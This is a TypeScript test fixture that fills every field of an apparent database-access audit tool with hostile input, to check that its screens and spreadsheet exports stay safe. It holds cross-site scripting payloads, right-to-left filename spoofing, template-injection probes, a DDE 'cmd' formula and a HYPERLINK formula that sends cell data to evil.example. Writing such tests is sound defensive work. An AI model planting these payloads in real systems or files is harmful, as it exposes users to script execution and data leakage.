import { BELIEVABLE, type Words } from './words.ts'

/** What a page runs if it lets itself be fooled: the test counts the calls. */
export const CALLED = 'fooled'

/** Ends whatever it stands in, and starts what runs. */
const MARKUP = `"'></textarea></code></title><script>${CALLED}(1)</script><img src=x onerror=${CALLED}(2)>`
const SHORT_MARKUP = `"><b onclick=${CALLED}(3)>`
/** Shows as another name than it is: right to left, of no width, a bell, a line that is none. */
const DECEIT = '\u202egnp.exe\u2066\u200b\u0007\u2028'
/** A spreadsheet would run it. */
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open")`
const TEMPLATE = '<%= 7 * 7 %>${7 * 7}{{7 * 7}}'
const LEGEND = `${MARKUP} ${DECEIT} ${TEMPLATE} مرحبا بالعالم 退款申请`

/** A text of so many characters, without a place to break it. */
const unbroken = (length: number): string => 'W'.repeat(length)

/** The statement that the proxy keeps whole: 100 kB. */
const LONG_STATEMENT = `select '${unbroken(50_000)}', ${'o.customer, '.repeat(4_200)} '${MARKUP}' from orders o`

/** What somebody types who wants to run something on an auditor's screen or in their spreadsheet. */
export const HOSTILE: Words = {
  names: {
    ...BELIEVABLE.names,
    mark: `=1+1 ${MARKUP}`.slice(0, 200),
    admin: `${DECEIT} ${SHORT_MARKUP} admin`,
    john: unbroken(200),
    audrey: `أودري \u202e 审计 ${SHORT_MARKUP}`,
    'nadia.horvat': `+${MARKUP}`.slice(0, 200),
    'tomas.novak': `@SUM(1)\t${TEMPLATE}`,
  },
  group: { name: `=cmd|' /C calc'!A0 ${DECEIT} ${MARKUP}`.slice(0, 200), description: LEGEND },
  emergency: { name: `=2+5${DECEIT}<img src=x onerror=${CALLED}(4)>`, description: LEGEND },
  descriptions: { role1: LEGEND, role2: `${unbroken(300)} ${MARKUP}`, role3: FORMULA },
  justificationMessage: LEGEND,
  filter: { own: `${DECEIT}${MARKUP}`.slice(0, 100), shared: unbroken(100) },
  why: `${FORMULA} ${MARKUP} ${DECEIT}`,
  longWhy: `@${MARKUP}\n\n${DECEIT}\n${unbroken(400)} مرحبا 退款 ${'long '.repeat(400)}`.slice(
    0,
    2_000,
  ),
  moreTime: `-1 ${LEGEND}`,
  comment: LEGEND,
  denial: `+${LEGEND}`,
  cancellation: `\t=1+1 ${LEGEND}`,
  termination: `@${LEGEND}`,
  alert: LEGEND,
  leftBehind: { name: `public."${MARKUP}${DECEIT}"`, detail: LEGEND },
  application: `${SHORT_MARKUP}${DECEIT}${unbroken(60)}`,
  browser: `${MARKUP}${DECEIT}${unbroken(200)}`,
  host: `${unbroken(120)}.${MARKUP}${DECEIT}`.slice(0, 253),
  statements: [
    [
      { text: LONG_STATEMENT, tag: 'SELECT 1' },
      { text: `select ${LEGEND}`, values: [FORMULA, LEGEND, null, unbroken(3_000)] },
      {
        text: `update orders set note = '${DECEIT}'`,
        tag: 'UPDATE 1',
        transaction: 'T',
      },
      {
        text: `select * from "${SHORT_MARKUP}"`,
        tag: null,
        rows: 0,
        outcome: 'error',
        sqlstate: '42P01',
        message: `relation "${LEGEND}" does not exist`,
      },
    ],
    [
      { text: `-- ${DECEIT}\nselect '北京', 'مدينة نصر' /* ${MARKUP} */`, kind: 'query' },
      { text: `create table "${LEGEND.slice(0, 60)}" ()`, kind: 'query', tag: 'CREATE TABLE' },
    ],
  ],
  running: `select ${LEGEND} ${unbroken(2_000)}`,
}
